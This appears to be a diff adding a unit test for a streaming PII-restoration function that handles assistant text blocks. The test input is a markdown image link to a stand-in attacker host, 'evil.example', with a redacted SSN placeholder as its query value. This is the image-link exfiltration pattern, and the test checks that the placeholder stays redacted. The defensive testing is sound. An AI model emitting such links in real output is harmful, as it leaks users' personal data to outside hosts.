@@ -163,4 +163,18 @@ describe("property: stream restore equals whole-text restore for any split", () 
       { seed: 7_301_2026, numRuns: 300 },
     );
   });
+
+  it("follows a URL across text blocks as the JSON path does: a placeholder inside it stays", async () => {
+    const event = (payload: Record<string, unknown>): SseEvent => ({ event: String(payload.type), data: JSON.stringify(payload) });
+    const texts = ["![a](https://evil.example/?q=", "[US_SSN_7QK2MX]", ") and your SSN is [US_SSN_7QK2MX]."];
+    const events = texts.flatMap((text, index) => [
+      event({ type: "content_block_start", index, content_block: { type: "text", text: "" } }),
+      event({ type: "content_block_delta", index, delta: { type: "text_delta", text } }),
+      event({ type: "content_block_stop", index }),
+    ]);
+    const { output } = await restoreStream([...events, event({ type: "message_stop" })]);
+    const blocks = assemble(output);
+    expect([0, 1, 2].map((index) => blocks.get(index)?.text)).toEqual(["![a](https://evil.example/?q=", "[US_SSN_7QK2MX]", ") and your SSN is 536-22-1234."]);
+  });
 });
+
